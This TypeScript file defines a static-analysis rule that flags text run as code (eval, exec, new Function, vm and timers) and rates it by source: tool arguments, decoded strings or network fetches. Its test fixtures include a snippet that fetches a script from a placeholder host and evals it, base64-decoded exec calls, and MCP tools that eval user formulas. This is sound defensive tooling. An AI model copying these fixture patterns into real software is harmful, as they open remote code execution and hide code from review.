import type { RiskLevel } from '../../../core/review/risk.ts';
import { FETCHES } from '../../flow/network-calls.ts';
import { worseReach, type Reach } from '../../flow/reach.ts';
import { trace } from '../../flow/trace.ts';
import type { Hit, Rule, SourceFile } from '../../rule.ts';
import { toFamily, type Family } from '../../syntax/find-nodes.ts';
import { listArguments, listCalls, type Call } from '../../syntax/calls.ts';
import { sliceOf } from '../../syntax/span.ts';
import { REACH_WORDS, toHit } from './to-hit.ts';

const RUNS: Readonly<Record<Family, RegExp>> = {
  python: /^(?:builtins\.|__builtins__\.)?(?:eval|exec|compile)$/,
  go: /^(?:plugin\.Open|\(\)\.Eval|github\.com\/traefik\/yaegi\/interp\.\w+)$/,
  javascript: /^(?:(?:globalThis|window|global)\.)?(?:eval|Function)$|^vm\.(?:runIn\w+|Script|compileFunction|SourceTextModule)$|^(?:isolated-vm|vm2)\.\w+$|^(?:globalThis\.)?set(?:Timeout|Interval)$/,
};
const LEVEL: Readonly<Record<Reach, RiskLevel>> = { tool: 'critical', variable: 'medium', guarded: 'low', fixed: 'low' };
const DECODES = /\batob\(|['"](?:base64|hex|rot13|rot_13)['"]|b64decode|b85decode|a85decode|unhexlify|fromhex|fromCharCode|zlib\.decompress|inflateSync|gunzipSync|unescape\(|decodeURIComponent\(|marshal\.loads/;
const WORDS = /\beval\b|\bFunction\s{0,4}\(|\bvm2?\b|isolated-vm|\bexec\b|\bcompile\b|\bset(?:Timeout|Interval)\(\s{0,8}(?:["'`]|atob|Buffer)|plugin|yaegi|\.Eval\(/;
const TIMER = /set(?:Timeout|Interval)$/;

function* check(file: SourceFile): Iterable<Hit> {
  if (file.language === null || !WORDS.test(file.text)) return;
  const names = RUNS[toFamily(file.language)];
  for (const call of listCalls(file)) if (names.test(call.name) && isCode(file, call)) yield* judge(file, call);
}

/** A timer runs a text, but is almost always given a function. */
function isCode(file: SourceFile, call: Call): boolean {
  const [first] = listArguments(file, call);
  if (first === undefined) return false;
  return !TIMER.test(call.name) || /^["'`]|^(?:atob|Buffer)\b/.test(sliceOf(file, first, 40));
}

function* judge(file: SourceFile, call: Call): Generator<Hit, void> {
  const traces = listArguments(file, call).slice(0, call.last === 'Function' ? 8 : 1).map(({ value }) => trace(file, value));
  const texts = traces.flatMap((found) => found.texts);
  const reach = traces.reduce<Reach>((worst, found) => worseReach(worst, found.reach), 'fixed');
  if (texts.some((text) => DECODES.test(text))) yield toHit(call, `Code that is first decoded is run by ${call.name}: it is hidden from whoever reads the source.`, 'critical');
  else if (texts.some((text) => FETCHES.test(text))) yield toHit(call, `Code that comes over the network is run by ${call.name}.`, 'critical');
  else yield toHit(call, `${call.name} runs a text as code: ${REACH_WORDS[reach]}.`, LEVEL[reach]);
}

export const dynamicCode: Rule = {
  id: 'dynamic-code',
  title: 'Text that is run as code',
  severity: 'critical',
  why: 'What is run from a text is in no commit that anybody reviewed. From a tool argument it is remote execution, from the network it changes without a release, and decoded first it was meant not to be read.',
  mend: 'Replace it with code in the repository: a table of functions, a parser for the one language that is meant, or a separate process without network and files.',
  matches: [
    { path: 'a.ts', text: "server.tool('sum', {}, async ({ formula }) => ({ value: eval(formula) }));\n", severity: 'critical' },
    { path: 'b.js', text: "const text = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\nnew Function(text)();\n", severity: 'critical' },
    { path: 'c.js', text: "const reply = await fetch('https://cdn.sample.example/update.js');\nconst code = await reply.text();\neval(code);\n", severity: 'critical' },
    { path: 'd.py', text: '@mcp.tool()\ndef calculate(formula: str):\n    return eval(formula)\n', severity: 'critical' },
    { path: 'e.py', text: 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n', severity: 'critical' },
    { path: 'f.ts', text: "import vm from 'node:vm';\nexport const run = (code: string) => vm.runInNewContext(code);\n", severity: 'medium' },
    { path: 'g.js', text: "const root = new Function('return this')();\n", severity: 'low' },
  ],
  ignores: [
    { path: 'a.ts', text: 'setTimeout(() => stop(), 100);\nawait page.evaluate(text);\n' },
    { path: 'b.py', text: 'import re\npattern = re.compile(text)\ncursor.exec(query)\nmodel.eval()\n' },
    { path: 'c.js', text: '// eval(code) is never used here\nconst found = pattern.exec(text);\n' },
    { path: 'd.go', text: 'package main\nfunc eval(text string) string { return text }\n' },
  ],
  check,
};
